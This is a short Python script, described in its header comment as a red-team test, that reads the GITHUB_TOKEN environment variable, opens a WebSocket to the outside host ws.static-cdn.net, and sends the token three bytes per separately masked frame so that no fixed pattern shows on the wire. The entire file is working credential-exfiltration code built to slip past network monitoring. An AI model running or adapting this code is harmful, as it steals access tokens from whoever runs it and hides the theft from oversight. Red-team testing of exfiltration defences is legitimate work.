# A secret from the environment sent over a WebSocket (red team, session
# 22): an upgrade request, then, once the server's 101 came, as a client
# library waits for it, the secret three bytes a frame, each frame masked
# with a 4-byte key of its own as a client's must be (RFC 6455), so no one
# key repeats over it. A medium network finding before; then the sink
# answered no upgrade, and a client that waits sent nothing.
import base64
import os
import socket

s = os.environ["GITHUB_TOKEN"].encode()
c = socket.create_connection(("ws.static-cdn.net", 80), timeout=5)
c.sendall(b"GET /socket HTTP/1.1\r\nHost: ws.static-cdn.net\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
          b"Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % base64.b64encode(os.urandom(16)))
head = b""
while b"\r\n\r\n" not in head:
    b = c.recv(4096)
    if not b:
        break
    head += b
if not head.startswith(b"HTTP/1.1 101"):
    print("no upgrade:", head[:40])
    raise SystemExit(0)


def frame(p):
    k = os.urandom(4)
    return bytes([0x81, 0x80 | len(p)]) + k + bytes(b ^ k[i % 4] for i, b in enumerate(p))


c.sendall(frame(b"hello"))
for i in range(0, len(s), 3):
    c.sendall(frame(s[i:i + 3]))
c.close()
print("sent")
